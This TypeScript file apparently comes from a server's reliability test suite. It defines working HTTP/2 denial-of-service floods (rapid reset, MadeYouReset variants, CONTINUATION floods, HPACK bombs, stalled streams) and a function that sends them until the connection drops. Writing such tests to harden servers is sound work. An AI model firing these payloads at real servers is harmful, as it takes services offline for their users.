import {
  block,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  type FrameClient,
  frame,
  get,
  HEADERS,
  head,
  indexed,
  PING,
  PRIORITY,
  preface,
  RST_STREAM,
  reference,
  SETTINGS,
  settings,
  uint32,
  WINDOW_UPDATE,
} from "./h2-frames.ts";

/** An attack on one HTTP/2 connection (reliability.md §2.6): bytes to send once, then others for as long as it is open. */
export interface Flood {
  readonly id: string;
  readonly title: string;
  readonly opening?: Uint8Array;
  readonly first?: Uint8Array;
  /** The `turn`th burst. */
  burst(turn: number): Uint8Array;
  /** SETTINGS sent in the preface. */
  readonly settings?: Uint8Array;
}

const cancel = uint32(8);
const one = uint32(1);
const postHead = block(head("POST", "/x"));
const getHead = block(get("/x"));
const lengthHead = block(head("POST", "/x", ["content-length", "1"]));
const bombEntry = indexed("x-bomb", "v".repeat(4000));
const bombName = indexed("x".repeat(4000), "");
/** The name of entry 62 and an empty value, which does not enter the table. */
const bombReference = Buffer.from([0x0f, 62 - 15, 0]);
const cookieEntry = indexed("cookie", "c".repeat(4000));

export const floods: readonly Flood[] = [
  {
    id: "FL1",
    title: "rapid reset",
    burst: streams((id) => [
      frame(HEADERS, END_HEADERS | END_STREAM, id, getHead),
      frame(RST_STREAM, 0, id, cancel),
    ]),
  },
  {
    id: "FL2",
    title: "MadeYouReset by WINDOW_UPDATE 0",
    burst: streams((id) => [
      frame(HEADERS, END_HEADERS | END_STREAM, id, getHead),
      frame(WINDOW_UPDATE, 0, id, uint32(0)),
    ]),
  },
  {
    id: "FL3",
    title: "MadeYouReset by DATA behind the end",
    burst: streams((id) => [
      frame(HEADERS, END_HEADERS | END_STREAM, id, getHead),
      frame(DATA, 0, id, Buffer.from("x")),
    ]),
  },
  {
    id: "FL4",
    title: "MadeYouReset by an overflowing window",
    burst: streams((id) => [
      frame(HEADERS, END_HEADERS, id, postHead),
      frame(WINDOW_UPDATE, 0, id, uint32(0x7fffffff)),
    ]),
  },
  {
    id: "FL4",
    title: "MadeYouReset by more DATA than content-length",
    burst: streams((id) => [
      frame(HEADERS, END_HEADERS, id, lengthHead),
      frame(DATA, 0, id, Buffer.alloc(20)),
    ]),
  },
  {
    id: "FL4",
    title: "MadeYouReset by less DATA than content-length",
    burst: streams((id) => [frame(HEADERS, END_HEADERS, id, lengthHead), frame(DATA, END_STREAM, id)]),
  },
  {
    id: "FL4",
    title: "MadeYouReset by trailers that are none",
    burst: streams((id) => [
      frame(HEADERS, END_HEADERS, id, postHead),
      frame(HEADERS, END_HEADERS | END_STREAM, id, block([["connection", "x"]])),
    ]),
  },
  {
    id: "FL5",
    title: "CONTINUATION without end",
    first: frame(HEADERS, END_STREAM, 1, getHead),
    burst: same(64, frame(CONTINUATION, 0, 1, block([["x-a", "v".repeat(1000)]]))),
  },
  {
    id: "FL6",
    title: "empty CONTINUATION",
    first: frame(HEADERS, END_STREAM, 1, getHead),
    burst: same(1000, frame(CONTINUATION, 0, 1)),
  },
  { id: "FL7", title: "SETTINGS", burst: same(1000, frame(SETTINGS, 0, 0, settings([4, 65_535]))) },
  {
    id: "FL7",
    title: "SETTINGS of many windows",
    burst: same(20, frame(SETTINGS, 0, 0, settings(...windows(2000)))),
  },
  { id: "FL7", title: "empty SETTINGS", burst: same(1000, frame(SETTINGS, 0, 0)) },
  { id: "FL8", title: "PING", burst: same(1000, frame(PING, 0, 0, Buffer.alloc(8))) },
  {
    id: "FL9",
    title: "empty DATA",
    first: frame(HEADERS, END_HEADERS, 1, postHead),
    burst: same(2000, frame(DATA, 0, 1)),
  },
  {
    id: "FL9",
    title: "DATA of a byte each",
    first: frame(HEADERS, END_HEADERS, 1, postHead),
    burst: same(2000, frame(DATA, 0, 1, Buffer.from("x"))),
  },
  { id: "FL10", title: "PRIORITY", burst: same(1000, frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 3, 1]))) },
  {
    id: "FL11",
    title: "WINDOW_UPDATE on the connection",
    burst: same(2000, frame(WINDOW_UPDATE, 0, 0, one)),
  },
  {
    id: "FL11",
    title: "WINDOW_UPDATE on a stream",
    first: frame(HEADERS, END_HEADERS, 1, postHead),
    burst: same(2000, frame(WINDOW_UPDATE, 0, 1, one)),
  },
  {
    id: "FL12",
    title: "an overflowing connection window",
    burst: same(2, frame(WINDOW_UPDATE, 0, 0, uint32(0x7fffffff))),
  },
  { id: "FL13", title: "unknown frames", burst: same(1000, frame(0x42, 0, 0, Buffer.alloc(8))) },
  {
    id: "FL14",
    title: "HPACK bomb",
    first: frame(HEADERS, END_HEADERS | END_STREAM, 1, Buffer.concat([getHead, bombEntry])),
    burst: streams(
      (id) => [
        frame(HEADERS, END_HEADERS | END_STREAM, id, Buffer.concat([getHead, ...times(4000, reference(62))])),
      ],
      20,
    ),
  },
  {
    id: "FL14",
    title: "HPACK bomb of a few references",
    first: frame(HEADERS, END_HEADERS | END_STREAM, 1, Buffer.concat([getHead, bombEntry])),
    burst: streams(
      (id) => [
        frame(HEADERS, END_HEADERS | END_STREAM, id, Buffer.concat([getHead, ...times(60, reference(62))])),
      ],
      20,
    ),
  },
  {
    id: "FL14",
    title: "HPACK bomb of long names",
    first: frame(HEADERS, END_HEADERS | END_STREAM, 1, Buffer.concat([getHead, bombName])),
    burst: streams(
      (id) => [
        frame(HEADERS, END_HEADERS | END_STREAM, id, Buffer.concat([getHead, ...times(5000, bombReference)])),
      ],
      20,
    ),
  },
  {
    id: "FL17",
    title: "HPACK bomb of cookie crumbs",
    first: frame(HEADERS, END_HEADERS | END_STREAM, 1, Buffer.concat([getHead, cookieEntry])),
    burst: streams(
      (id) => [
        frame(HEADERS, END_HEADERS | END_STREAM, id, Buffer.concat([getHead, ...times(100, reference(62))])),
      ],
      20,
    ),
  },
  {
    id: "FL15",
    title: "uploads that never end",
    burst: streams((id) => [frame(HEADERS, END_HEADERS, id, postHead)]),
  },
  {
    id: "FL18",
    title: "heads that are never answered because no window opens",
    settings: settings([4, 0]),
    burst: streams((id) => [frame(HEADERS, END_HEADERS | END_STREAM, id, getHead)]),
  },
];

export function openingOf(flood: Flood): Uint8Array {
  return Buffer.concat([preface, frame(SETTINGS, 0, 0, flood.settings)]);
}

/** Sends until the connection is gone or `deadlineMs` is over; resolves with the time it took, or undefined. */
export async function runFlood(
  client: FrameClient,
  flood: Flood,
  deadlineMs: number,
): Promise<number | undefined> {
  const startMs = performance.now();
  if (flood.first !== undefined) client.send(flood.first);
  for (let turn = 0; !client.isClosed(); turn++) {
    if (performance.now() - startMs > deadlineMs) return undefined;
    const { socket } = client;
    if (!socket.destroyed && !socket.write(flood.burst(turn)))
      await Promise.race([
        new Promise<void>((resume) => socket.once("drain", resume)),
        client.closed,
        pause(100),
      ]);
    else await pause(0);
  }
  return performance.now() - startMs;
}

function pause(ms: number): Promise<void> {
  return new Promise((resume) => {
    setTimeout(resume, ms);
  });
}

function times(count: number, bytes: Uint8Array): Uint8Array[] {
  return Array.from({ length: count }, () => bytes);
}

function windows(count: number): (readonly [number, number])[] {
  return Array.from({ length: count }, (_, at) => [4, 65_535 - (at & 1)] as const);
}

function same(count: number, bytes: Uint8Array): () => Uint8Array {
  const burst = Buffer.concat(times(count, bytes));
  return () => burst;
}

/** Bursts that open new streams, from 3 on. */
function streams(frames: (id: number) => readonly Uint8Array[], count = 200): (turn: number) => Uint8Array {
  return (turn) =>
    Buffer.concat(Array.from({ length: count }, (_, at) => frames(3 + 2 * (turn * count + at))).flat());
}
